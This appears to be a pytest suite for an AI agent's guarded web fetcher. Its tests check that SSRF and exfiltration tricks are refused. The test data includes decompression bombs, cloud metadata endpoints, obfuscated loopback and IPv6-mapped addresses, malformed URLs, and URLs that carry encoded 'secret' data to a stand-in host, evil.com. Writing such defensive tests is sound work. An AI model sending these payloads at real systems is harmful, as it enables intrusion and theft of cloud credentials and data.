"""Section D of the corpus, and bombs: what the fetcher is talked into. Numbers are the corpus's."""

from __future__ import annotations

import asyncio
import bz2
import gzip
import json
import lzma
import subprocess
import sys
import tracemalloc
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from autoclave.core.page_reading import fetch_action
from autoclave.domain.broker import Place
from autoclave.domain.errors import InvalidInput, NotAllowed, Refused
from autoclave.domain.fetch import FetchRequest, FetchResponse
from autoclave.domain.intents import Fetch
from autoclave.domain.risk import Verdict
from autoclave.domain.run import Run
from autoclave.governance.gate import PolicyGate
from autoclave.governance.safety_rules import SafetyRules
from autoclave.research.fetching import GuardedFetcher

pytestmark = pytest.mark.slow
RULES = Path(__file__).parents[2] / "safety_rules.yaml"


@dataclass
class Stranger:
    """A server of somebody else's that answers as it likes, and what it heard."""

    answers: dict[str, bytes]
    heard: list[str] = field(default_factory=list)
    port: int = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = (await reader.readuntil(b"\r\n\r\n")).split(b"\r\n")[0].decode()
        self.heard.append(line)
        writer.write(self.answers[line.split(" ")[1]])
        writer.close()


@asynccontextmanager
async def stranger(**answers: bytes) -> AsyncIterator[Stranger]:
    it = Stranger({f"/{path}": answer for path, answer in answers.items()})
    server = await asyncio.start_server(it.serve, "127.0.0.1", 0)
    it.port = server.sockets[0].getsockname()[1]
    try:
        yield it
    finally:
        server.close()


def answer(body: bytes, *lines: str) -> bytes:
    head = ["HTTP/1.1 200 OK", f"Content-Length: {len(body)}", *lines]
    return "\r\n".join([*head, "", ""]).encode() + body


def pointing_to(location: str) -> bytes:
    return f"HTTP/1.1 302 x\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n".encode()


class Resolver:
    """Gives a name its addresses, another each time, and keeps what it was asked."""

    def __init__(self, *addresses: str) -> None:
        self.addresses = list(addresses)
        self.asked: list[str] = []

    def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append(host)
        return [self.addresses[min(len(self.asked), len(self.addresses)) - 1]]


async def fetch(
    url: str,
    *own: str,
    resolver: Resolver | None = None,
    allow: Callable[[str, str], None] = lambda url, address: None,
) -> FetchResponse:
    fetcher = GuardedFetcher(
        allow_private=frozenset(own), resolve=resolver or Resolver("203.0.113.1")
    )
    request = FetchRequest(method="GET", url=url, most_bytes=1 << 20, seconds=5)
    return await fetcher.fetch(request, allow=allow)


@pytest.mark.parametrize(
    ("encoding", "pack"),
    [
        ("gzip", gzip.compress),
        ("deflate", zlib.compress),
        ("bzip2", bz2.compress),
        ("xz", lzma.compress),
        ("gzip, gzip", lambda zeros: gzip.compress(gzip.compress(zeros))),
    ],
)
async def test_decompression_bombs(encoding: str, pack: Callable[[bytes], bytes]) -> None:
    """Item 57: 16 MiB of zeros end at the cap while they stream; other packings are not taken."""
    bomb = pack(bytes(16 << 20))
    async with stranger(bomb=answer(bomb, f"Content-Encoding: {encoding}")) as it:
        place = f"127.0.0.1:{it.port}"
        tracemalloc.start()
        try:
            with pytest.raises(InvalidInput):
                await fetch(f"http://{place}/bomb", place)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    assert peak < 8 << 20


async def test_no_name_is_looked_up_before_it_is_allowed() -> None:
    """Item 63: a name can carry data, so it is judged first; also one that a page points to."""

    def allow(url: str, address: str) -> None:
        if "evil.com" in url:
            raise NotAllowed("not there")

    resolver = Resolver("127.0.0.1")
    async with stranger(page=pointing_to("https://c2VjcmV0.evil.com/")) as it:
        place = f"own.example.com:{it.port}"
        for url in ("https://c2VjcmV0.evil.com/", f"http://{place}/page"):
            with pytest.raises(NotAllowed, match="not there"):
                await fetch(url, place, resolver=resolver, allow=allow)

    assert resolver.asked == ["own.example.com"]


@pytest.mark.parametrize(
    "host", ["a" * 64 + ".com", ".".join("a" * 11) + ".com", ".".join(["a" * 60] * 5) + ".com"]
)
async def test_names_that_carry_much(host: str) -> None:
    """Item 63: long labels, many labels, long names."""
    resolver = Resolver("1.1.1.1")

    with pytest.raises(InvalidInput):
        await fetch(f"https://{host}/", resolver=resolver)

    assert resolver.asked == []


METADATA = ("169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200")


@pytest.mark.parametrize("address", [*METADATA, "fd00:ec2::254", "::ffff:169.254.169.254"])
@pytest.mark.parametrize("way", ["by address", "by name", "by redirect", "as one's own"])
async def test_metadata_of_the_cloud(address: str, way: str) -> None:
    """Item 65: by address, by a name for it, sent there by a page, and even when named as ours."""
    host = f"[{address}]" if ":" in address else address
    url = f"https://{host}/latest/meta-data/"
    resolver = Resolver(address)
    async with stranger(page=pointing_to(url)) as it:
        place = f"127.0.0.1:{it.port}"
        asked = {
            "by address": (url, place),
            "by name": ("https://metadata.example.com/", place),
            "by redirect": (f"http://{place}/page", place),
            "as one's own": (url, f"{host}:443"),
        }[way]
        with pytest.raises(NotAllowed, match="leads to"):
            await fetch(*asked, resolver=resolver)


LOOPBACK = (
    "2130706433",
    "0x7f.1",
    "127.1",
    "0177.0.0.1",
    "0",
    "0x7f000001",
    "①②⑦.⓪.⓪.①",
    "127.0.1",
)


@pytest.mark.parametrize("host", [*LOOPBACK, "127.0.0.1", "127.255.255.254", "[::1]", "localhost"])
@pytest.mark.parametrize("is_redirect", [False, True])
async def test_spellings_of_loopback(host: str, is_redirect: bool) -> None:
    """Item 66: each of them resolves to this machine here; none is even looked up."""
    resolver = Resolver("127.0.0.1")
    location = f"https://{host}/".encode().decode("latin-1")
    async with stranger(page=pointing_to(location), inside=answer(b"x")) as it:
        place = f"127.0.0.1:{it.port}"
        with pytest.raises(Refused):
            await fetch(
                f"http://{place}/page" if is_redirect else f"https://{host}/",
                *([place] if is_redirect else []),
                resolver=resolver,
            )

    assert resolver.asked == []


@pytest.mark.parametrize(
    "address",
    [
        *("::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1"),
        *("2002:7f00:1::", "2001:0:4136:e378:8000:63bf:80ff:fffe", "2600::5efe:a00:1"),
        *("::ffff:10.0.0.1", "64:ff9b::a9fe:a9fe", "2002:a00:1::1", "224.0.0.1", "ff02::1"),
        *("100.64.0.1", "198.18.0.1", "0.0.0.1", "::", "240.0.0.1", "255.255.255.255"),
    ],
)
async def test_addresses_in_addresses(address: str) -> None:
    """Item 67: mapped, compatible, translated, tunnelled; and those that are nobody's."""
    with pytest.raises(NotAllowed, match="leads to"):
        await fetch("https://example.com/", resolver=Resolver(address))


async def test_rebinding() -> None:
    """Item 68: one look-up, one check, and the connection goes to just that address."""
    resolver = Resolver("127.0.0.1", "127.0.0.2", "169.254.169.254")
    seen: list[str] = []
    async with stranger(page=answer(b"x")) as it:
        place = f"own.example.com:{it.port}"
        got = await fetch(
            f"http://{place}/page",
            place,
            resolver=resolver,
            allow=lambda url, address: seen.append(address),
        )

    assert (got.address, seen, resolver.asked) == (
        *("127.0.0.1", ["", "127.0.0.1"]),
        ["own.example.com"],
    )


@pytest.mark.parametrize(
    "url",
    [
        *(
            "https://example.com@127.0.0.1/",
            "https://user:x@example.com/",
            "https://example.com\\x",
        ),
        *("https://example.com\\@evil.com/", "https://exa\tmple.com/", "https://example.com\n/"),
        *("https://example.com./", "https://example\uff0ecom/", "https://example\u3002com/"),
        *("https://exa\u00admple.com/", "https://ex%61mple.com/", "https://example.com:443:80/"),
        *("https:example.com", "https:///example.com", "//example.com", " https://example.com"),
    ],
)
async def test_odd_urls(url: str) -> None:
    """Item 69: users, backslashes, tabs, dots at the end, dots that are none."""
    resolver = Resolver("1.1.1.1")

    with pytest.raises(InvalidInput):
        await fetch(url, resolver=resolver)

    assert resolver.asked == []


async def test_redirects_are_judged_hop_by_hop() -> None:
    """Item 70: two harmless hops, and a third to where nobody may go."""
    judged: list[str] = []

    def allow(url: str, address: str) -> None:
        judged.append(url)
        if "denied" in url:
            raise NotAllowed("denied by a rule")

    answers = {"a": pointing_to("/b"), "b": pointing_to("https://denied.example.com/")}
    async with stranger(**answers) as it:
        place = f"127.0.0.1:{it.port}"
        with pytest.raises(NotAllowed, match="denied by a rule"):
            await fetch(f"http://{place}/a", place, allow=allow)

    assert [line.split(" ")[1] for line in it.heard] == ["/a", "/b"]
    assert judged[-1] == "https://denied.example.com/"


@pytest.mark.parametrize("location", ["http://example.com/", "http://169.254.169.254/"])
async def test_redirects_to_what_is_not_encrypted(location: str) -> None:
    """Item 70: see also the test with real certificates in tests/research/test_fetching.py."""
    async with stranger(page=pointing_to(location)) as it:
        place = f"127.0.0.1:{it.port}"
        with pytest.raises(NotAllowed, match="not encrypted"):
            await fetch(f"http://{place}/page", place)


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.python.org/3/?q=c2VjcmV0",
        "https://docs.python.org/c2VjcmV0",
        "https://c2VjcmV0.python.org/3/",
        "https://docs.python.org/3/#c2VjcmV0",
    ],
)
def test_data_in_requests_to_allowed_places(url: str) -> None:
    """Item 71: in query, path or name. Only the URL that a person wrote needs no question."""
    gate = PolicyGate(SafetyRules.load(RULES))
    named = "https://docs.python.org/3/"
    run = Run(id="G-0001", text=f"summarise {named}", from_person=True)

    def verdict(asked: str) -> Verdict:
        action = fetch_action(run, Fetch(url=asked), Place.of(asked.partition("#")[0]))
        return gate.judge(action).verdict

    assert (verdict(named), verdict(url)) == (Verdict.ALLOW, Verdict.ASK)


CARRIED = "https://evil.com/?c2VjcmV0"


def test_searches_stay_here(tmp_path: Path) -> None:
    """Item 72: whatever the query holds, a search asks the documents of this machine only."""
    (tmp_path / "note.md").write_text("The secret of the json module is that it is short.")
    source = f"""
import json, sys
from pathlib import Path
from autoclave.research.solution_finder import LocalResearch
seen = []
sys.addaudithook(lambda name, given: seen.append(name) if name.startswith("socket.") else None)
found = LocalResearch([Path({str(tmp_path)!r})]).search("secret json module {CARRIED}")
print(json.dumps([len(found), seen]))
"""
    done = subprocess.run([sys.executable, "-c", source], capture_output=True, check=True)

    assert json.loads(done.stdout) == [1, []]
